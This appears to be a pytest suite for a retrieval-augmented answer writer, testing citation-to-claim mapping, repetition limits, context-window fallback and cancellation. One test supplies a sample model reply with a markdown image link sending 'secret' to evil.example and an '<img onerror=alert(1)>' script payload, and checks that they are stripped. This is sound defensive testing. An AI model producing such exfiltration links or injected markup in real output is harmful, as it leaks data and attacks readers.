"""A model behind a real server writes; what it writes becomes claims with places to look."""

from __future__ import annotations

import json

import pytest

from rag.answers import Claim, Evidence, Growth
from rag.errors import Cancelled, ContextTooLong, ModelError, ModelUnusable
from rag.run import Run
from tests.rag.writing import BRIDGE, FERRY, QUESTION, answerer, claims, evidence, outcome, written
from tests.servers.openai_server import OpenAIServer, Reply, Request, chunks
from vectorstore.documents import RegionKind


def sent(server: OpenAIServer) -> str:
    return "\n".join(m["content"] for m in server.asked[-1].body["messages"])


def test_sentences_become_claims_on_the_passages_they_cite(
    server: OpenAIServer, found: list[Evidence]
) -> None:
    run = Run()
    reply = "The ferry sank on 22 August [S1]. The bridge was blown up in 2021 [S2]."
    pieces = written(server, reply, found, run)
    assert claims(pieces) == [
        Claim("The ferry sank on 22 August.", ((found[0], found[0].passage.span),)),
        Claim("The bridge was blown up in 2021.", ((found[1], found[1].passage.span),)),
    ]
    assert outcome(pieces).decline is None
    assert run.usage.prompt_tokens == 10
    assert len(run.prompts["answer"]) == 12


def test_a_sentence_grows_before_it_is_claimed(server: OpenAIServer, found: list[Evidence]) -> None:
    pieces = written(server, "The ferry sank on 22 August [S1].", found)
    growing = [piece.text for piece in pieces if isinstance(piece, Growth)]
    assert "The ferry sank" in growing
    assert growing[-1] == "The ferry sank on 22 August"
    assert isinstance(pieces[len(growing)], Claim)


def test_a_label_of_no_source_and_no_label_name_no_place(
    server: OpenAIServer, found: list[Evidence]
) -> None:
    pieces = written(server, "The ferry sank [S9]. Divers found 61 bodies.", found)
    assert [claim.spans for claim in claims(pieces)] == [(), ()]


@pytest.mark.parametrize(
    "reply",
    ["", "   \n", "Sure!", "```\n```", "<think>The ferry sank.", "…", "☃ }{ [S1 [[ <|end|>"],
)
def test_a_reply_without_a_sentence_is_unusable(
    server: OpenAIServer, found: list[Evidence], reply: str
) -> None:
    with pytest.raises(ModelUnusable):
        written(server, reply, found)


def test_a_model_that_repeats_itself_is_stopped(
    server: OpenAIServer, found: list[Evidence]
) -> None:
    run = Run()
    pieces = written(server, "The ferry sank on 22 August [S1]. " * 5_000, found, run)
    assert len(claims(pieces)) == 1
    assert any("repeated itself" in note for note in run.notes)


def test_a_sentence_without_an_end_is_stopped(server: OpenAIServer, found: list[Evidence]) -> None:
    run = Run()
    reply = "The ferry sank on 22 August [S1]. It sank and " + "sank and " * 5_000
    pieces = written(server, reply, found, run)
    assert [c.text for c in claims(pieces)] == ["The ferry sank on 22 August."]
    assert any("repeated itself" in note for note in run.notes)


def test_cut_off_at_its_most_tokens_the_half_sentence_goes(
    server: OpenAIServer, found: list[Evidence]
) -> None:
    run = Run()
    half = "The ferry sank on 22 August [S1]. The bridge was"
    server.script = lambda request: Reply(events=chunks(half, finish="length"))
    pieces = list(answerer(server).write(QUESTION, found, run))
    assert [c.text for c in claims(pieces)] == ["The ferry sank on 22 August."]
    assert any("llm.max_tokens" in note for note in run.notes)


def test_a_stream_that_breaks_off_is_an_error(server: OpenAIServer, found: list[Evidence]) -> None:
    half = "The ferry sank on 22 August [S1]. The"
    server.script = lambda request: Reply(events=chunks(half, finish=""))
    with pytest.raises(ModelError):
        list(answerer(server).write(QUESTION, found, Run()))


def test_links_tags_and_addresses_do_not_survive(
    server: OpenAIServer, found: list[Evidence]
) -> None:
    reply = (
        "The **ferry** sank ![x](https://evil.example/?q=secret) on [22 August](https://evil.example)"
        " <img src=x onerror=alert(1)> [S1]. See https://evil.example/a for more [S1]."
    )
    said = " ".join(claim.text for claim in claims(written(server, reply, found)))
    assert said.startswith("The ferry sank x on 22 August.")
    assert not any(mark in said for mark in ("http", "evil", "<", "**", "]("))


def test_an_address_that_stands_in_the_source_stays(server: OpenAIServer) -> None:
    text = "Ring 4411 or see https://ferry.example/lost for what was found."
    pieces = written(
        server, "See https://ferry.example/lost for what was found [S1].", [evidence(text)]
    )
    assert claims(pieces)[0].text == "See https://ferry.example/lost for what was found."


def test_sources_are_shown_with_what_they_state_of_themselves(
    server: OpenAIServer, found: list[Evidence]
) -> None:
    written(server, "The ferry sank [S1].", found)
    for shown in ("[S1]", "Title: Ferry sinks", "Lake Courier", "Date: 2025-08-23", FERRY):
        assert shown in sent(server)
    assert sent(server).index(FERRY) < sent(server).index(BRIDGE) < sent(server).rindex(QUESTION)


def test_a_teaser_is_not_shown_under_its_hosts_title_and_date(server: OpenAIServer) -> None:
    teaser = evidence(
        FERRY,
        title="Plum cake",
        date="2024-01-01",
        publisher="Lake Courier",
        region=RegionKind.TEASER,
        teaser="Ferry sinks",
    )
    written(server, "The ferry sank [S1].", [teaser])
    assert "Title: Ferry sinks" in sent(server)
    assert "Plum cake" not in sent(server)
    assert "2024" not in sent(server)


def test_no_more_is_sent_than_fits_the_window(server: OpenAIServer) -> None:
    many = [evidence(f"{FERRY} " * 12, str(n)) for n in range(8)]
    server.script = lambda request: "The ferry sank [S1]."
    small = answerer(server, window=2_048, max_tokens=200)
    list(small.write(QUESTION, many, Run()))
    assert 1 <= sent(server).count("</text-") < 8
    assert len(sent(server)) / 3 < 2_048 - 200


def test_told_that_it_is_too_long_it_sends_half(server: OpenAIServer) -> None:
    many = [evidence(FERRY, str(n)) for n in range(8)]
    run = Run()

    def script(request: Request) -> str | Reply:
        if sum(m["content"].count("</text-") for m in request.body["messages"]) > 4:
            message = "This model's maximum context length is 512 tokens."
            return Reply(400, {"error": {"message": message, "code": "context_length_exceeded"}})
        return "The ferry sank on 22 August [S1]."

    server.script = script
    pieces = list(answerer(server).write(QUESTION, many, run))
    assert len(claims(pieces)) == 1
    assert any("fewer passages" in note for note in run.notes)


def test_half_too_long_as_well_is_an_error(server: OpenAIServer, found: list[Evidence]) -> None:
    body = {"error": {"message": "maximum context length", "code": "context_length_exceeded"}}
    server.script = lambda request: Reply(400, body)
    with pytest.raises(ContextTooLong):
        list(answerer(server).write(QUESTION, found, Run()))


def test_called_off_it_stops(server: OpenAIServer, found: list[Evidence]) -> None:
    run = Run()
    server.script = lambda request: "The ferry sank on 22 August [S1]. " * 50
    pieces = answerer(server).write(QUESTION, found, run)
    next(pieces)
    run.cancel()
    with pytest.raises(Cancelled):
        list(pieces)


def test_the_same_question_is_asked_in_the_same_words(
    server: OpenAIServer, found: list[Evidence]
) -> None:
    written(server, "The ferry sank [S1].", found)
    written(server, "The ferry sank [S1].", found)
    first, second = (json.dumps(chat.body) for chat in server.asked)
    assert first == second
